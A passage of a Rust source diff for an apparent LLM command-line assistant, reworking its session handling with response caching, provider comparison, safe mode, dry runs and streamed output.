@@ -1,167 +1,910 @@
+use super::explain::CacheExplanation;
+use super::language::answer_language;
+use super::prompt::SystemPrompt;
+use super::sections::extract_section;
+use super::sources::{
+    enforce_citation_format, extract_sources, response_sources, strip_sources, SOURCES_MARKER,
+};
 use crate::{
-    cache::{CacheStorage, QueryNormalizer},
-    cli::CliContext,
-    config::Config,
-    llm::{GroqProvider, LLMProvider, Message, OllamaProvider, PerplexityProvider},
-    ui::Display,
+    cache::{embedder_from_config, last_query, CacheStorage, CachedQuery, QueryNormalizer},
+    cli::{CliContext, OutputFormat},
+    config::{Config, LLMProvider as LLMProviderKind},
+    engine::{CacheKey, CacheLookup},
+    llm::{
+        create_provider, estimate_tokens, fit_to_budget, Image, LLMProvider, Message, MockProvider,
+    },
+    ui::{
+        ndjson::{self, ChunkFilter, Event as NdjsonEvent},
+        Display, ProgressGuard, SlowResponseWarning,
+    },
 };
-use anyhow::Result;
+use anyhow::{Context, Result};
 use colored::Colorize;
+use indicatif::ProgressBar;
+use serde::Serialize;
+use std::borrow::Cow;
+use std::ops::ControlFlow;
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+/// Minimum (cosine) similarity for a cached entry to be used as conversation context
+const CONTEXT_SIMILARITY_FLOOR: f32 = 0.5;
 
 pub struct InteractiveSession {
     context: CliContext,
     provider: Box<dyn LLMProvider>,
+    /// Prior turns (from related cache entries) sent before the query
+    history: Vec<Message>,
+    /// Extra attempts when the provider returns a blank response
+    empty_response_retries: u32,
+    /// Wait before the spinner says the model may be loading (`network.slow_response_secs`)
+    slow_response_after: Option<Duration>,
+    /// Answer language (`--lang` or `response.language`), `None` for English
+    language: Option<String>,
+    /// Safe mode (`--safe` or `response.safe_mode`): authorization reminders, scope refusals
+    safe: bool,
+    /// Attached to the query message (`--image`)
+    images: Vec<Image>,
+    /// Sites the model should prefer to cite (`response.trusted_sources`)
+    trusted_sources: Vec<String>,
+    /// Clean up numbered citations in fresh responses (`response.enforce_citation_format`)
+    enforce_citations: bool,
+}
+
+/// Outcome of a cache warm-up run
+#[derive(Debug, Clone, Default)]
+pub struct WarmSummary {
+    pub added: usize,
+    pub already_cached: usize,
+    pub failed: usize,
+}
+
+/// One provider's answer in `cyx compare`
+#[derive(Debug, Clone, Serialize)]
+pub struct ProviderAnswer {
+    pub provider: String,
+    pub model: Option<String>,
+    /// Time to the complete response (or the failure)
+    pub latency_ms: u64,
+    pub response: Option<String>,
+    pub usage: Option<ndjson::Usage>,
+    pub error: Option<String>,
 }
 
 impl InteractiveSession {
     pub fn new(config: Config, context: CliContext) -> Result<Self> {
         // Initialize LLM provider based on config
-        let provider: Box<dyn LLMProvider> = match config.provider {
-            crate::config::LLMProvider::Groq => {
-                let api_key = config
-                    .api_keys
-                    .groq
-                    .clone()
-                    .ok_or_else(|| anyhow::anyhow!("Groq API key not configured"))?;
-                Box::new(GroqProvider::new(api_key)?)
-            }
-            crate::config::LLMProvider::Perplexity => {
-                let api_key = config
-                    .api_keys
-                    .perplexity
-                    .clone()
-                    .ok_or_else(|| anyhow::anyhow!("Perplexity API key not configured"))?;
-                Box::new(PerplexityProvider::new(api_key)?)
-            }
-            crate::config::LLMProvider::Ollama => {
-                Box::new(OllamaProvider::new(config.ollama.clone())?)
+        let provider = create_provider(
+            &config,
+            &config.provider,
+            config.network.allow_invalid_certs || context.insecure,
+            context.timeout,
+        )?;
+        Self::with_provider(config, context, provider)
+    }
+
+    /// A session answering with `provider` instead of the one in the config
+    pub fn with_provider(
+        config: Config,
+        context: CliContext,
+        provider: Box<dyn LLMProvider>,
+    ) -> Result<Self> {
+        let images = match &context.image {
+            Some(path) => {
+                if !provider.supports_images() {
+                    anyhow::bail!(
+                        "{} does not accept images; --image works with Groq, Perplexity \
+                         and Ollama vision models",
+                        provider.name()
+                    );
+                }
+                vec![Image::from_path(path)?]
+            }
+            None => Vec::new(),
+        };
+
+        Ok(Self {
+            images,
+            language: answer_language(&context, &config),
+            safe: context.safe || config.response.safe_mode,
+            trusted_sources: config.response.trusted_sources,
+            enforce_citations: config.response.enforce_citation_format,
+            context,
+            provider,
+            history: Vec::new(),
+            empty_response_retries: config.network.empty_response_retries,
+            slow_response_after: (config.network.slow_response_secs > 0)
+                .then(|| Duration::from_secs(config.network.slow_response_secs)),
+        })
+    }
+
+    /// The provider answering this session's queries
+    pub(crate) fn provider(&self) -> &dyn LLMProvider {
+        self.provider.as_ref()
+    }
+
+    /// Answer language, `None` for English
+    pub(crate) fn language(&self) -> Option<&str> {
+        self.language.as_deref()
+    }
+
+    /// Answer in `language` (`None` = English) instead of the configured one
+    pub(crate) fn set_language(&mut self, language: Option<String>) {
+        self.language = language;
+    }
+
+    /// Open the cache, scoped to the answer language of this run
+    fn open_cache(config: &Config, context: &CliContext) -> Result<CacheStorage> {
+        Self::open_cache_at(&Config::cache_dir()?, config, context)
+    }
+
+    fn open_cache_at(
+        cache_dir: &Path,
+        config: &Config,
+        context: &CliContext,
+    ) -> Result<CacheStorage> {
+        let allow_invalid_certs = config.network.allow_invalid_certs || context.insecure;
+        let storage = CacheStorage::new(cache_dir)?;
+        Self::report_cache_reset(&storage, context);
+        Ok(storage
+            .with_similarity_metric(config.cache.similarity_metric)
+            .with_embedder(embedder_from_config(config, allow_invalid_certs)?)
+            .with_language(answer_language(context, config)))
+    }
+
+    /// Why answers for this run neither come from nor go into the cache, which only
+    /// holds answers to the plain prompt: `None` when they can
+    fn uncached_reason(config: &Config, context: &CliContext) -> Option<&'static str> {
+        if context.image.is_some() {
+            Some("answers about an attached image")
+        } else if context.system.is_some() {
+            Some("answers shaped by --system")
+        } else if context.safe || config.response.safe_mode {
+            Some("safe mode answers")
+        } else {
+            None
+        }
+    }
+
+    /// Bail out of a command that stores answers when this run's answers aren't cached
+    fn ensure_cacheable(config: &Config, context: &CliContext) -> Result<()> {
+        match Self::uncached_reason(config, context) {
+            Some(reason) => anyhow::bail!("The cache doesn't hold {}", reason),
+            None => Ok(()),
+        }
+    }
+
+    /// Tell the user when opening `storage` found a corrupt database and started
+    /// a fresh one
+    pub fn report_cache_reset(storage: &CacheStorage, context: &CliContext) {
+        if let Some(backup) = storage.corrupt_backup() {
+            if !context.quiet {
+                Display::warning_stderr(&format!(
+                    "Cache database was corrupt and has been reset (old file kept at {})",
+                    backup.display()
+                ));
             }
+        }
+    }
+
+    /// Ask each of `providers` the same query, bypassing the cache. A provider that
+    /// can't be set up or fails to answer gets an entry with its error.
+    pub fn compare(
+        config: &Config,
+        query: &str,
+        providers: &[LLMProviderKind],
+        context: &CliContext,
+    ) -> Vec<ProviderAnswer> {
+        providers
+            .iter()
+            .map(|kind| {
+                let pb = (context.should_show_progress() && !context.no_tty)
+                    .then(|| Display::create_progress_bar(&format!("Asking {:?}...", kind)));
+                let _pb_guard = pb.clone().map(ProgressGuard::new);
+
+                let started = Instant::now();
+                let config = Config {
+                    provider: kind.clone(),
+                    ..config.clone()
+                };
+                let answer = match Self::new(config, context.clone()) {
+                    Ok(session) => session.answer_uncached(query, started),
+                    Err(e) => ProviderAnswer {
+                        provider: format!("{:?}", kind),
+                        model: None,
+                        latency_ms: started.elapsed().as_millis() as u64,
+                        response: None,
+                        usage: None,
+                        error: Some(e.to_string()),
+                    },
+                };
+
+                if let Some(pb) = pb {
+                    pb.finish_and_clear();
+                }
+                answer
+            })
+            .collect()
+    }
+
+    /// Fetch a fresh answer for `cyx compare`, timed from `started`
+    fn answer_uncached(&self, query: &str, started: Instant) -> ProviderAnswer {
+        let result = self.fetch_response(query);
+        let latency_ms = started.elapsed().as_millis() as u64;
+
+        let (response, usage, error) = match result {
+            Ok(response) => {
+                let usage = ndjson::Usage {
+                    prompt_tokens: estimate_tokens(&self.build_messages(query)),
+                    completion_tokens: estimate_tokens(&[Message::assistant(response.as_str())]),
+                };
+                (Some(response), Some(usage), None)
+            }
+            Err(e) => (None, None, Some(e.to_string())),
         };
 
-        Ok(Self { context, provider })
+        ProviderAnswer {
+            provider: self.provider.name().to_string(),
+            model: Some(self.provider.model().to_string()),
+            latency_ms,
+            response,
+            usage,
+            error,
+        }
     }
 
     /// Run a one-shot query (non-interactive)
     pub fn one_shot(config: Config, query: &str, context: CliContext) -> Result<()> {
-        // Check cache if enabled
-        if config.cache.enabled {
-            let cache_dir = Config::cache_dir()?;
-            let storage = CacheStorage::new(&cache_dir)?;
-            let normalizer = QueryNormalizer::with_defaults()?;
-
-            // Normalize query and compute hash
-            let normalized = normalizer.normalize(query)?;
-            let hash = normalizer.compute_hash(&normalized);
-
-            // Check if we have a cached response (exact match)
-            if let Some(cached) = storage.get_by_hash(&hash)? {
-                if !context.quiet {
-                    Display::info("[*] Cache hit! (exact match)");
-                }
+        if context.dry_run {
+            let mut session = Self::new(config.clone(), context.clone())?;
+            if config.cache.enabled && context.context_entries > 0 {
+                let storage = Self::open_cache(&config, &context)?;
+                let normalized = QueryNormalizer::from_config(&config)?.normalize(query)?;
+                session.history = related_history(&storage, &normalized, context.context_entries)?;
+            }
+            return session.print_dry_run(query);
+        }
 
-                // Display cached response
-                Display::stream_box_section("RESPONSE", &cached.response);
+        Self::remember_query(query);
 
-                if !context.quiet {
-                    println!();
-                    Display::sources_with_links(
-                        &cached.provider,
-                        &cached.model,
-                        false, // We don't track web search for cache
-                        &[],   // No sources in cache
-                    );
-                    println!();
-                    println!(
-                        "{}",
-                        format!(
-                            "Cached {} ago • Accessed {} times",
-                            format_duration_ago(&cached.created_at),
-                            cached.access_count
-                        )
-                        .dimmed()
-                    );
-                }
+        // Raw JSON answers are shaped by the request, so they bypass the cache
+        if context.json_response {
+            return Self::new(config, context)?.print_json_response(query);
+        }
 
-                return Ok(());
+        Self::answer_through_cache(config, query, context, &Config::cache_dir()?, Self::new)
+    }
+
+    /// Answer `query` from the cache in `cache_dir`, building a session with
+    /// `new_session` only when the provider has to be asked
+    fn answer_through_cache(
+        config: Config,
+        query: &str,
+        context: CliContext,
+        cache_dir: &Path,
+        new_session: impl FnOnce(Config, CliContext) -> Result<Self>,
+    ) -> Result<()> {
+        // Check cache if enabled and the answer can be shared with plain queries.
+        // A cache that can't be opened shouldn't cost the user their answer.
+        let storage = if config.cache.enabled && Self::uncached_reason(&config, &context).is_none()
+        {
+            Self::open_cache_at(cache_dir, &config, &context)
+                .map_err(|e| {
+                    log::warn!("Cache unavailable: {:#}", e);
+                    if !context.quiet {
+                        Display::warning_stderr(&format!(
+                            "Cache unavailable, answering without it: {:#}",
+                            e
+                        ));
+                    }
+                })
+                .ok()
+        } else {
+            None
+        };
+
+        if let Some(storage) = storage {
+            // Normalize query and compute hash (answers in other languages are cached separately)
+            let language = answer_language(&context, &config);
+            let key = CacheKey::new(
+                &QueryNormalizer::from_config(&config)?,
+                query,
+                language.as_deref(),
+            )?;
+            let threshold = config.cache.metric_threshold(context.threshold);
+
+            if context.explain_cache {
+                CacheExplanation::gather(
+                    &storage,
+                    &key.normalized,
+                    &key.hash,
+                    language.as_deref(),
+                    threshold,
+                )?
+                .print(query);
             }
 
-            // Try vector similarity search
-            let similar_results =
-                storage.search_similar(&normalized, config.cache.similarity_threshold, 1)?;
-            if let Some((cached, similarity)) = similar_results.first() {
+            let lookup = key.lookup(&storage, threshold)?;
+            if let Some(error) = storage.embed_failure() {
                 if !context.quiet {
-                    Display::info(&format!(
-                        "[*] Cache hit! (similar match: {:.0}%)",
-                        similarity * 100.0
+                    Display::warning_stderr(&format!(
+                        "Cache embedder unavailable, skipping similar matches: {}",
+                        error
                     ));
                 }
+            }
 
-                // Display cached response
-                Display::stream_box_section("RESPONSE", &cached.response);
+            match lookup {
+                CacheLookup::Exact(cached) => {
+                    if !context.quiet {
+                        Display::info("[*] Cache hit! (exact match)");
+                    }
+                    storage.add_tags(&cached.query_hash, &context.tags)?;
 
-                if !context.quiet {
-                    println!();
-                    Display::sources_with_links(&cached.provider, &cached.model, false, &[]);
-                    println!();
-                    println!(
-                        "{}",
-                        format!("Similar to: \"{}\"", cached.query_original).dimmed()
-                    );
-                    println!(
-                        "{}",
-                        format!(
-                            "Cached {} ago • Accessed {} times",
-                            format_duration_ago(&cached.created_at),
-                            cached.access_count
-                        )
-                        .dimmed()
-                    );
+                    Self::show_cached(&cached, &context);
+                    return Ok(());
                 }
+                CacheLookup::Similar(cached, similarity) => {
+                    if !context.quiet {
+                        Display::info(&format!(
+                            "[*] Cache hit! (similar match: {})",
+                            config.cache.similarity_metric.describe(similarity)
+                        ));
+                    }
 
-                return Ok(());
-            } else if !context.quiet {
-                Display::info("Cache miss - calling API...");
+                    if Self::confirm_similar_match(&cached, &context)? {
+                        storage.add_tags(&cached.query_hash, &context.tags)?;
+                        Self::show_similar_match(&cached, &context);
+                        return Ok(());
+                    }
+
+                    log::info!("Similar match rejected, asking the provider");
+                    Display::info("Calling API for a fresh answer...");
+                }
+                CacheLookup::Miss => {
+                    if !context.quiet {
+                        Display::info("Cache miss - calling API...");
+                    }
+                }
             }
 
-            // Cache miss - make API call
-            let session = Self::new(config.clone(), context.clone())?;
+            // Cache miss (or rejected match) - make API call
+            let mut session = new_session(config.clone(), context.clone())?;
+            session.history = related_history(&storage, &key.normalized, context.context_entries)?;
             let response = session.process_query_and_return(query)?;
 
             // Store in cache
-            storage.store(
-                query,
-                &normalized,
-                &hash,
-                &response,
-                session.provider.name(),
-                session.provider.model(),
-            )?;
+            session.cache_response(&storage, &key, query, &response)?;
 
             if !context.quiet {
                 println!();
                 println!("{}", "✓ Response cached for future use".dimmed());
             }
         } else {
-            // Cache disabled - just process query
-            let session = Self::new(config, context)?;
+            // Cache disabled, bypassed or unavailable - just process query
+            log::debug!("Answering without the cache");
+            let session = new_session(config, context)?;
             session.process_query(query)?;
         }
 
         Ok(())
     }
 
+    /// Answer with a canned response from `MockProvider`, to show the interface
+    /// without an API key or network. Nothing is read from or written to the cache.
+    pub fn demo(query: &str, context: CliContext) -> Result<()> {
+        let session =
+            Self::with_provider(Config::default(), context, Box::new(MockProvider::demo()))?;
+        session.process_query(query)
+    }
+
+    /// Prompt for queries until `exit`, `quit` or end of input, answering each like
+    /// a one-shot query (cache included). A failed query doesn't end the chat.
+    pub fn chat(config: Config, context: CliContext) -> Result<()> {
+        use std::io::{self, BufRead, Write};
+
+        if !context.quiet {
+            Display::info("Chat mode - enter a query, or exit to quit");
+        }
+
+        let mut line = String::new();
+        loop {
+            if !context.no_tty {
+                print!("{} ", "cyx>".cyan().bold());
+                io::stdout().flush()?;
+            }
+            line.clear();
+            if io::stdin().lock().read_line(&mut line)? == 0 {
+                break;
+            }
+
+            match line.trim() {
+                "" => continue,
+                "exit" | "quit" => break,
+                query => {
+                    if let Err(e) = Self::one_shot(config.clone(), query, context.clone()) {
+                        Display::error(&format!("Error: {}", e));
+                    }
+                    println!();
+                }
+            }
+        }
+
+        Ok(())
+    }
+
+    /// Record `query` for `--retry-last` before it is asked, so it can be retried
+    /// even if it fails
+    fn remember_query(query: &str) {
+        if let Err(e) = Config::cache_dir().and_then(|dir| last_query::record(&dir, query)) {
+            log::warn!("Failed to record the last query: {:#}", e);
+        }
+    }
+
+    /// Ask `query` again without consulting the cache, replacing its cached entry
+    /// when this run's answers are cached at all
+    pub fn retry(mut config: Config, query: &str, context: CliContext) -> Result<()> {
+        if config.cache.enabled && Self::uncached_reason(&config, &context).is_none() {
+            return Self::refresh(config, query, context);
+        }
+
+        config.cache.enabled = false;
+        Self::one_shot(config, query, context)
+    }
+
+    /// Re-run a query against the provider without consulting the cache, and
+    /// overwrite its cached entry with the fresh response
+    pub fn refresh(config: Config, query: &str, context: CliContext) -> Result<()> {
+        Self::ensure_cacheable(&config, &context)?;
+        Self::remember_query(query);
+        let storage = Self::open_cache(&config, &context)?;
+        let normalizer = QueryNormalizer::from_config(&config)?;
+
+        // No related history: the stale answer would otherwise be fed back as context
+        let session = Self::new(config, context.clone())?;
+        let key = CacheKey::new(&normalizer, query, session.language.as_deref())?;
+        let response = session.process_query_and_return(query)?;
+        session.cache_response(&storage, &key, query, &response)?;
+
+        if !context.quiet {
+            println!();
+            println!("{}", "✓ Cached response refreshed".dimmed());
+        }
+
+        Ok(())
+    }
+
+    /// Render a cached response with its sources and cache metadata
+    pub fn show_cached(cached: &CachedQuery, context: &CliContext) {
+        if context.is_ndjson() {
+            Self::emit_cached(cached, context);
+            return;
+        }
+
+        let (title, body) = displayed_response(&cached.response, context);
+        Display::stream_box_section(&title, &body);
+
+        if !context.quiet {
+            if !context.no_sources {
+                println!();
+                Display::sources_with_links(
+                    &cached.provider,
+                    &cached.model,
+                    false, // We don't track web search for cache
+                    &cached_source_links(cached),
+                );
+            }
+            println!();
+            println!(
+                "{}",
+                format!(
+                    "Cached {} ago • Accessed {} times",
+                    format_duration_ago(&cached.created_at),
+                    cached.access_count
+                )
+                .dimmed()
+            );
+        }
+    }
+
+    /// A cached answer as a Markdown document: the query as heading, the answer
+    /// body, its sources as links and a provenance line
+    pub fn cached_markdown(cached: &CachedQuery) -> String {
+        let mut markdown = format!(
+            "# {}\n\n{}\n",
+            cached.query_original.trim(),
+            strip_sources(&cached.response)
+        );
+
+        let sources = cached_sources(cached);
+        if !sources.is_empty() {
+            markdown.push_str("\n## Sources\n\n");
+            for (description, url) in &sources {
+                markdown.push_str(&format!("- [{}]({})\n", description, url));
+            }
+        }
+
+        markdown.push_str(&format!(
+            "\n---\n\n*{} ({}), cached {}*\n",
+            cached.provider,
+            cached.model,
+            cached.created_at.format("%Y-%m-%d")
+        ));
+        markdown
+    }
+
+    /// Write a cached response as NDJSON events
+    fn emit_cached(cached: &CachedQuery, context: &CliContext) {
+        ndjson::emit_cached(
+            &displayed_response(&cached.response, context).1,
+            &cached_sources(cached),
+            &cached.provider,
+            &cached.model,
+        );
+    }
+
+    /// Ask whether to use a similar (not exact) cache match. Always accepted
+    /// without prompting under --quiet/--no-tty.
+    fn confirm_similar_match(cached: &CachedQuery, context: &CliContext) -> Result<bool> {
+        if context.quiet || context.no_tty {
+            return Ok(true);
+        }
+
+        println!(
+            "{}",
+            format!("Matched: \"{}\"", cached.query_original).dimmed()
+        );
+
+        Ok(
+            dialoguer::Confirm::with_theme(&dialoguer::theme::ColorfulTheme::default())
+                .with_prompt("Use this cached answer?")
+                .default(true)
+                .interact()?,
+        )
+    }
+
+    /// Render a similar-match cache hit, noting which query it was cached for
+    fn show_similar_match(cached: &CachedQuery, context: &CliContext) {
+        if context.is_ndjson() {
+            Self::emit_cached(cached, context);
+            return;
+        }
+
+        let (title, body) = displayed_response(&cached.response, context);
+        Display::stream_box_section(&title, &body);
+
+        if !context.quiet {
+            if !context.no_sources {
+                println!();
+                Display::sources_with_links(
+                    &cached.provider,
+                    &cached.model,
+                    false,
+                    &cached_source_links(cached),
+                );
+            }
+            println!();
+            println!(
+                "{}",
+                format!("Similar to: \"{}\"", cached.query_original).dimmed()
+            );
+            println!(
+                "{}",
+                format!(
+                    "Cached {} ago • Accessed {} times",
+                    format_duration_ago(&cached.created_at),
+                    cached.access_count
+                )
+                .dimmed()
+            );
+        }
+    }
+
+    /// Seed the cache with responses for each query, without rendering them.
+    /// Queries that already have an exact or similar (>= threshold) cache entry are skipped.
+    pub fn warm(
+        config: Config,
+        queries: &[String],
+        threshold: f32,
+        context: CliContext,
+    ) -> Result<WarmSummary> {
+        Self::ensure_cacheable(&config, &context)?;
+        let storage = Self::open_cache(&config, &context)?;
+        let normalizer = QueryNormalizer::from_config(&config)?;
+        let session = Self::new(config, context.clone())?;
+
+        let pb = if context.should_show_progress() && !context.no_tty {
+            Some(Display::create_progress_bar("Warming cache..."))
+        } else {
+            None
+        };
+        let _pb_guard = pb.clone().map(ProgressGuard::new);
+
+        let mut summary = WarmSummary::default();
+        for (i, query) in queries.iter().enumerate() {
+            if let Some(ref progress) = pb {
+                progress.set_message(format!("[{}/{}] {}", i + 1, queries.len(), query));
+            }
+
+            let key = CacheKey::new(&normalizer, query, session.language.as_deref())?;
+
+            // Peek rather than `lookup`: checking isn't a real cache hit or miss
+            if storage.peek_by_hash(&key.hash)?.is_some()
+                || !storage
+                    .search_similar(&key.normalized, threshold, 1)?
+                    .is_empty()
+            {
+                summary.already_cached += 1;
+                continue;
+            }
+
+            match session.fetch_response(query) {
+                Ok(response) => {
+                    session.cache_response(&storage, &key, query, &response)?;
+                    summary.added += 1;
+                }
+                Err(e) => {
+                    summary.failed += 1;
+                    if context.should_show_verbose() {
+                        let message = format!("Failed to fetch \"{}\": {}", query, e);
+                        match pb {
+                            Some(ref progress) => progress.suspend(|| Display::warning(&message)),
+                            None => Display::warning(&message),
+                        }
+                    }
+                }
+            }
+        }
+
+        if let Some(pb) = pb {
+            pb.finish_and_clear();
+        }
+
+        Ok(summary)
+    }
+
+    /// Store a fresh response in the cache with its sources split out into structured form,
+    /// tagged with its knowledge areas and any `--tag`s
+    fn cache_response(
+        &self,
+        storage: &CacheStorage,
+        key: &CacheKey,
+        query: &str,
+        response: &str,
+    ) -> Result<()> {
+        key.store(
+            storage,
+            query,
+            response,
+            self.provider.as_ref(),
+            &self.context.tags,
+        )
+    }
+
+    /// Build the conversation (system prompt, related history, user query) sent to the provider
+    fn build_messages(&self, query: &str) -> Vec<Message> {
+        let mut messages = vec![Message::system(self.system_prompt())];
+        messages.extend(self.history.iter().cloned());
+        messages.push(Message::user(query).with_images(self.images.clone()));
+
+        let usage = fit_to_budget(&mut messages, self.provider.prompt_budget());
+        if self.context.should_show_verbose() {
+            Display::info(&format!(
+                "Context: ~{} / {} tokens (estimated)",
+                usage.estimated, usage.budget
+            ));
+            if usage.dropped > 0 {
+                Display::info(&format!(
+                    "Dropped {} oldest history messages to fit the context window",
+                    usage.dropped
+                ));
+            }
+        }
+
+        messages
+    }
+
+    /// Print the provider and the exact messages that would be sent, without calling the API
+    fn print_dry_run(&self, query: &str) -> Result<()> {
+        let messages = self.build_messages(query);
+
+        let event = NdjsonEvent::dry_run(self.provider.name(), self.provider.model(), &messages);
+        match self.context.output {
+            OutputFormat::Ndjson => {
+                ndjson::emit(&event);
+                return Ok(());
+            }
+            OutputFormat::Json => {
+                println!("{}", serde_json::to_string_pretty(&event)?);
+                return Ok(());
+            }
+            OutputFormat::Text => {}
+        }
+
+        println!("{}", "Dry run - no request will be sent".bold().yellow());
+        println!("{}", "─".repeat(60));
+        println!(
+            "  Provider: {} ({})",
+            self.provider.name().cyan(),
+            self.provider.model().dimmed()
+        );
+        println!("  Messages: {}", messages.len());
+
+        for message in &messages {
+            println!();
+            println!("{}", format!("[{}]", message.role).bold().cyan());
+            println!("{}", message.content);
+            for image in &message.images {
+                println!(
+                    "{}",
+                    format!(
+                        "[image: {}, {} KB]",
+                        image.media_type,
+                        image.size().div_ceil(1024)
+                    )
+                    .dimmed()
+                );
+            }
+        }
+        Ok(())
+    }
+
+    /// Get a complete response without streaming or rendering it
+    pub(crate) fn fetch_response(&self, query: &str) -> Result<String> {
+        let messages = self.build_messages(query);
+        Message::validate_sequence(&messages)?;
+        let response = self.retry_on_empty(|| self.provider.send_message(&messages))?;
+        Ok(self.clean_citations(&response).into_owned())
+    }
+
+    /// Apply `response.enforce_citation_format` to a complete response
+    fn clean_citations<'a>(&self, response: &'a str) -> Cow<'a, str> {
+        if self.enforce_citations {
+            enforce_citation_format(response)
+        } else {
+            Cow::Borrowed(response)
+        }
+    }
+
+    /// Fetch a response in the provider's JSON mode and print it unchanged once it
+    /// is known to parse
+    fn print_json_response(&self, query: &str) -> Result<()> {
+        let messages = self.build_messages(query);
+        Message::validate_sequence(&messages)?;
+        let response = self.retry_on_empty(|| self.provider.send_message_json(&messages))?;
+
+        let json = response.trim();
+        serde_json::from_str::<serde_json::Value>(json).with_context(|| {
+            format!(
+                "{} returned a response that is not valid JSON:\n{}",
+                self.provider.name(),
+                json
+            )
+        })?;
+        println!("{}", json);
+        Ok(())
+    }
+
     fn process_query_and_return(&self, query: &str) -> Result<String> {
+        if self.context.section.is_none() {
+            return self.retry_on_empty(|| self.stream_response(query));
+        }
+
+        // A section can only be picked out of the complete answer, so it isn't streamed
+        let response = self.retry_on_empty(|| self.fetch_with_progress(query))?;
+        self.show_fetched(query, &response);
+        Ok(response)
+    }
+
+    /// Note on `pb` once the response is slow to start, if a delay is configured
+    fn slow_response_warning(&self, pb: Option<&ProgressBar>) -> Option<SlowResponseWarning> {
+        let after = self.slow_response_after?;
+        Some(SlowResponseWarning::new(pb?.clone(), after))
+    }
+
+    /// `fetch_response` behind a spinner
+    fn fetch_with_progress(&self, query: &str) -> Result<String> {
+        let pb = (self.context.should_show_progress() && !self.context.no_tty)
+            .then(|| Display::create_progress_bar("Getting response..."));
+        let _pb_guard = pb.clone().map(ProgressGuard::new);
+        let _slow_warning = self.slow_response_warning(pb.as_ref());
+
+        let response = self.fetch_response(query);
+        if let Some(pb) = pb {
+            pb.finish_and_clear();
+        }
+        response
+    }
+
+    /// Render a complete (non-streamed) fresh response with its sources
+    fn show_fetched(&self, query: &str, response: &str) {
+        let sources = response_sources(response, &self.provider.citations());
+        let (title, body) = displayed_response(response, &self.context);
+
+        if self.context.is_ndjson() {
+            let usage = ndjson::Usage {
+                prompt_tokens: estimate_tokens(&self.build_messages(query)),
+                completion_tokens: estimate_tokens(&[Message::assistant(response)]),
+            };
+            ndjson::emit(&NdjsonEvent::Chunk { text: &body });
+            ndjson::emit(&NdjsonEvent::done(
+                &sources,
+                self.provider.name(),
+                self.provider.model(),
+                Some(usage),
+            ));
+            return;
+        }
+
+        Display::stream_box_section(&title, &body);
+
+        if !self.context.quiet && !self.context.no_sources {
+            let links: Vec<String> = sources
+                .iter()
+                .map(|(description, url)| format!("{}: {}", description, url))
+                .collect();
+            println!();
+            Display::sources_with_links(
+                self.provider.name(),
+                self.provider.model(),
+                self.provider.searches_web(),
+                &links,
+            );
+        }
+    }
+
+    /// Call `send` again while it yields a blank response, up to the configured
+    /// number of retries, so an empty completion is never displayed or cached
+    fn retry_on_empty(&self, mut send: impl FnMut() -> Result<String>) -> Result<String> {
+        for attempt in 0..=self.empty_response_retries {
+            log::debug!(
+                "Asking {} ({}), attempt {}",
+                self.provider.name(),
+                self.provider.model(),
+                attempt + 1
+            );
+            let started = Instant::now();
+            let response = send().inspect_err(|e| {
+                log::error!(
+                    "{} request failed after {} ms: {:#}",
+                    self.provider.name(),
+                    started.elapsed().as_millis(),
+                    e
+                )
+            })?;
+            if !response.trim().is_empty() {
+                log::info!(
+                    "{} ({}) answered in {} ms ({} chars)",
+                    self.provider.name(),
+                    self.provider.model(),
+                    started.elapsed().as_millis(),
+                    response.chars().count()
+                );
+                return Ok(response);
+            }
+
+            log::warn!("{} returned an empty response", self.provider.name());
+
+            if attempt < self.empty_response_retries && !self.context.quiet {
+                Display::warning("Provider returned an empty response, retrying...");
+            }
+        }
+
+        anyhow::bail!(
+            "{} returned an empty response after {} attempt(s)",
+            self.provider.name(),
+            self.empty_response_retries + 1
+        )
+    }
+
+    /// Stream a response to the terminal and return the full text
+    fn stream_response(&self, query: &str) -> Result<String> {
         use std::io::{self, Write};
         use std::sync::{Arc, Mutex};
 
         // Build conversation with system prompt
-        let system_prompt = if self.context.learn {
-            Self::create_learn_system_prompt()
-        } else {
-            Self::create_system_prompt()
-        };
-
-        let messages = vec![Message::system(system_prompt), Message::user(query)];
+        let messages = self.build_messages(query);
+        Message::validate_sequence(&messages)?;
 
         // Create progress bar
         let pb = if self.context.should_show_progress() && !self.context.no_tty {
@@ -171,6 +914,10 @@ impl InteractiveSession {
         } else {
             None
         };
+        let _pb_guard = pb
+            .as_deref()
+            .map(|progress| ProgressGuard::new(progress.clone()));
+        let mut slow_warning = self.slow_response_warning(pb.as_deref());
 
         // Track full response
         let full_response = Arc::new(Mutex::new(String::new()));
@@ -186,6 +933,17 @@ impl InteractiveSession {
         let char_count = Arc::new(Mutex::new(0));
         let quiet = self.context.quiet;
         let no_tty = self.context.no_tty;
+        let max_chars = self.context.max_chars;
+        let ndjson_filter = self
+            .context
+            .is_ndjson()
+            .then(|| Arc::new(Mutex::new(ChunkFilter::default())));
+        let ndjson_filter_clone = ndjson_filter.clone();
+        // Plain output with --no-sources stops printing at the [SOURCES] marker
+        let no_sources = self.context.no_sources;
+        let plain_filter = (no_sources && ndjson_filter.is_none())
+            .then(|| Arc::new(Mutex::new(ChunkFilter::default())));
+        let plain_filter_clone = plain_filter.clone();
 
         let line_buffer_clone = line_buffer.clone();
         let in_code_block_clone = in_code_block.clone();
@@ -203,12 +961,20 @@ impl InteractiveSession {
         self.provider.send_message_stream(
             &messages,
             Box::new(move |chunk| {
+                // The response has started
+                drop(slow_warning.take());
+                let mut count = char_count_clone.lock().unwrap();
+
+                // Past --max-chars, end the response with the truncation marker and stop
+                let clipped = max_chars.and_then(|max| clip_chunk(chunk, *count, max));
+                let stop = clipped.is_some();
+                let chunk = clipped.as_deref().unwrap_or(chunk);
+
                 // Store full response
                 full_response_clone.lock().unwrap().push_str(chunk);
 
                 // Update character count and progress bar
-                let mut count = char_count_clone.lock().unwrap();
-                *count += chunk.len();
+                *count += chunk.chars().count();
 
                 // Update progress bar periodically
                 if (*count).is_multiple_of(50) || *count < 50 {
@@ -217,9 +983,19 @@ impl InteractiveSession {
                     }
                 }
 
-                if quiet || no_tty {
-                    print!("{}", chunk);
-                    io::stdout().flush().unwrap();
+                if let Some(ref filter) = ndjson_filter_clone {
+                    if let Some(text) = filter.lock().unwrap().push(chunk) {
+                        ndjson::emit(&NdjsonEvent::Chunk { text: &text });
+                    }
+                } else if quiet || no_tty {
+                    let text = match plain_filter_clone {
+                        Some(ref filter) => filter.lock().unwrap().push(chunk),
+                        None => Some(chunk.to_string()),
+                    };
+                    if let Some(text) = text {
+                        print!("{}", text);
+                        io::stdout().flush().unwrap();
+                    }
